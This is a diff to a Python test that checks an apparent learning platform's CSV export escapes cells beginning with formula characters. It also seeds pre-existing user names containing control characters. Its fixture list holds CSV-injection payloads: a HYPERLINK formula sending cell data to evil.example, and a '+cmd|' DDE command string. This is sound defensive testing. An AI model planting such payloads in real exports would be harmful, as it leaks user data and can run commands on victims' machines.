@@ -87,8 +87,17 @@ FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "+cmd|' 
 
 
 def test_csv_cells_never_start_a_formula(app, visitor, learner, built_example):
+    from sqlalchemy import update
+
+    from brokerlearn.server import db
+    from brokerlearn.server.models import User
     for number, name in enumerate(FORMULA_NAMES):
-        assert visitor().register(f"f{number}@agency.org", name=name).status_code == 302
+        printable = name.isprintable()  # registration now refuses control characters in names:
+        assert visitor().register(f"f{number}@agency.org", name=name if printable else "x").status_code == 302
+        if not printable:  # ... but an account made before that rule may still hold one
+            with app.app_context():
+                db.session().execute(update(User).where(User.email == f"f{number}@agency.org").values(name=name))
+                db.session().commit()
     visitor().register("=1+1@test.local")
     ana = learner("ana@agency.org")
     done = {"event_id": "evt-a-0002", "course": "example", "kind": "lesson_completed",
@@ -100,7 +109,7 @@ def test_csv_cells_never_start_a_formula(app, visitor, learner, built_example):
             for cell in row:
                 assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (what, cell)
     learners = {r["email"]: r for r in rows(export(app, built_example, "csv", "learners"))}
-    assert {r["name"] for r in learners.values()} >= {"'" + name.strip() for name in FORMULA_NAMES}
+    assert {r["name"] for r in learners.values()} >= {"'" + name for name in FORMULA_NAMES}
     assert "'=1+1@test.local" in learners
     assert learners["ana@agency.org"]["lessons_completed"] == "1"  # numbers stay numbers
 
